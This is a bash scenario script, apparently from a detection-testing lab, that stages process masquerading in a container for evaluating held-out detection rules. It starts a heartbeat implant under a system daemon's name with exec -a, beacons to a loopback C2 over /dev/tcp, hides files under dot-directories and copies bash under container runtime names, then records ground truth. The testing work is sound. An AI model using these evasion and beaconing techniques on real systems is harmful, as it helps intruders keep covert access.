#!/bin/bash
# Scenario masq-shim: masquerading, a third variant held out from the rules' making (other
# tools, names and techniques than masq-nginx and masq-sshd). A bash heartbeat loop is started
# with `exec -a` under the name of a system daemon (argv[0] from the exec, no title rewriting)
# and keeps a connection to a C2 on 127.147.x.y over /dev/tcp; and the image's bash is copied
# under a container runtime's name into /usr/local/bin and runs a sleep there.
# Usage: lab/scenarios/masq-shim.sh OUTDIR
source "$(dirname "$0")/../lib/common.sh"
lab_init masq-shim "$@"
lab_use_tools_image

C2="$(lab_addr 147):$(lab_pick 8081 5000 9090 8888)"
TITLE=$(lab_pick /lib/systemd/systemd-journald /usr/sbin/rsyslogd /usr/sbin/cron)
BOT=$(lab_hex 5)
HB=/var/lib/.$(lab_pick journal-cache sysstat-tmp apt-lists)/hb
RENAMED=$(lab_pick /usr/local/bin/containerd-shim-runc-v2 /usr/local/sbin/kube-proxy /usr/local/bin/dockerd)
lab_template "$SPEC/hb.sh" "$WORK/hb.sh" "C2=$C2" "C2_HOST=${C2%:*}" "C2_PORT=${C2#*:}" "BOT_ID=$BOT"

lab_peer_on c2 "$C2" perl "$PEERS/sink.pl" --listen "$C2" --summary "$WORK/peer-c2.json"

lab_run --env APP_ENV=prod --hostname ingest -- sh -c 'date > /var/log/app.log; while :; do sleep 3600; done'
lab_cp "$WORK/hb.sh" "$HB" 0700
lab_exec_bg "bash -c 'exec -a $TITLE bash $HB'"
lab_exec_bg "cp /usr/bin/bash $RENAMED && exec $RENAMED -c 'sleep 86400 & wait'"
lab_wait "heartbeats" 15 lab_json "$WORK/peer-c2.json" 'd["sessions"] and d["sessions"][0]["bytes_read"] >= 20'
lab_wait "renamed copy runs" 10 lab_cexec pgrep -f "^$RENAMED"

lab_finish "$HB" "$RENAMED" /usr/bin/bash

lab_kv_json "$WORK/params.json" "c2=$C2" "bot_id=$BOT" "title=$TITLE" "implant_path=$HB" \
    "renamed_binary=$RENAMED" "renamed_from=/usr/bin/bash"
lab_facts --conn "implant=$C2" --proc "renamed=^$RENAMED"
lab_truth --description "masquerade: bash $HB started as '$TITLE' (exec -a) beats to $C2; /usr/bin/bash copied to $RENAMED and running" \
    --params "$WORK/params.json" --facts "$WORK/facts.json"
